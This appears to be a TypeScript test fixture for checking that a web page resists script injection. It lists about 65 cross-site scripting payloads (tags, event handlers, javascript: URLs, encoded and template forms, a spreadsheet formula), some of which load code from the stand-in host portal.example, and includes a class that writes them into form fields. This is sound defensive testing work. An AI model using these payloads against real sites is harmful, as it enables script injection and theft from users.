/**
 * Payloads that try to make a page run scripts. Each sets `hasRun` or opens a dialog when it runs. Taken from the usual
 * collections, reduced to distinct ones: tags, attributes, addresses, styles, templates, and texts that parsers
 * misread.
 */
export const SCRIPT_PAYLOADS: readonly string[] = [
  "<script>hasRun=1</script>",
  "<ScRiPt >hasRun=1</sCrIpT>",
  "<script src=//portal.example/x.js></script>",
  "<script src=data:,hasRun=1></script>",
  "</script><script>hasRun=1</script>",
  "</title><script>hasRun=1</script>",
  "</textarea><script>hasRun=1</script>",
  "</style><script>hasRun=1</script>",
  "--><script>hasRun=1</script>",
  "]]><script>hasRun=1</script>",
  '"><script>hasRun=1</script>',
  "'><script>hasRun=1</script>",
  "<<script>hasRun=1//<</script>",
  "<script/x>hasRun=1</script>",
  "<img src=x onerror=hasRun=1>",
  '<img src=x onerror="hasRun=1">',
  "<img/src=x/onerror=hasRun=1>",
  '"><img src=x onerror=hasRun=1>',
  "'><img src=x onerror=hasRun=1>",
  "<img src=x onerror=alert(1)>",
  "<image src=x onerror=hasRun=1>",
  "<svg onload=hasRun=1>",
  "<svg/onload=hasRun=1>",
  "<svg><script>hasRun=1</script></svg>",
  "<svg><animate onbegin=hasRun=1 attributeName=x>",
  "<svg><a xlink:href=javascript:hasRun=1>x</a>",
  "<math><a xlink:href=javascript:hasRun=1>x</a>",
  "<body onload=hasRun=1>",
  "<details open ontoggle=hasRun=1>",
  "<input autofocus onfocus=hasRun=1>",
  "<select autofocus onfocus=hasRun=1>",
  "<video src=x onerror=hasRun=1>",
  "<audio src=x onerror=hasRun=1>",
  "<video><source onerror=hasRun=1>",
  "<marquee onstart=hasRun=1>x</marquee>",
  "<object data=javascript:hasRun=1>",
  "<embed src=javascript:hasRun=1>",
  "<iframe src=javascript:hasRun=1>",
  "<iframe srcdoc='<script>parent.hasRun=1</script>'>",
  "<form action=javascript:hasRun=1><button>x</button></form>",
  "<button formaction=javascript:hasRun=1>x</button>",
  "<a href=javascript:hasRun=1>x</a>",
  "<base href=//portal.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:hasRun=1'>",
  "<link rel=stylesheet href=//portal.example/x.css>",
  "<style>*{background:url(//portal.example/x)}</style>",
  "<div style=animation-name:x onanimationstart=hasRun=1>",
  "<noscript><p title='</noscript><img src=x onerror=hasRun=1>'>",
  "<template><script>hasRun=1</script></template>",
  "javascript:hasRun=1",
  "JaVaScRiPt:alert(1)",
  "data:text/html,<script>hasRun=1</script>",
  "vbscript:hasRun=1",
  '" onmouseover=hasRun=1 x="',
  "' autofocus onfocus=hasRun=1 x='",
  "{{constructor.constructor('hasRun=1')()}}",
  "${hasRun=1}",
  "`${hasRun=1}`",
  "&lt;script&gt;hasRun=1&lt;/script&gt;",
  "&#60;img src=x onerror=hasRun=1&#62;",
  "%3Cscript%3EhasRun=1%3C/script%3E",
  "\\u003cscript\\u003ehasRun=1\\u003c/script\\u003e",
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=hasRun=1>"}}',
  "__proto__",
  '=HYPERLINK("//portal.example","x")',
];

/** Enough for every payload at once, and short enough for a page. */
export const allCharacters = 3_900;

/** Writes payloads into one field after the other until all are used, and records what it wrote where. */
export class HostilePen {
  readonly written = new Map<string, string[]>();
  #next = 0;
  #count = 0;

  /** A unique number and as many payloads as fit. A short field gets other payloads than the previous one. */
  write(field: string, charactersMax: number): string {
    let text = `w${String(this.#count++)}.`;
    for (let count = 0; count < SCRIPT_PAYLOADS.length; count++) {
      const payload = this.#fitting(charactersMax - text.length);
      if (payload === null) break;
      text += ` ${payload}`;
    }
    this.written.set(field, [...(this.written.get(field) ?? []), text]);
    return text;
  }

  #fitting(room: number): string | null {
    for (let tried = 0; tried < SCRIPT_PAYLOADS.length; tried++) {
      const payload = SCRIPT_PAYLOADS[this.#next++ % SCRIPT_PAYLOADS.length] ?? "";
      if (payload.length + 1 <= room) return payload;
    }
    return null;
  }
}
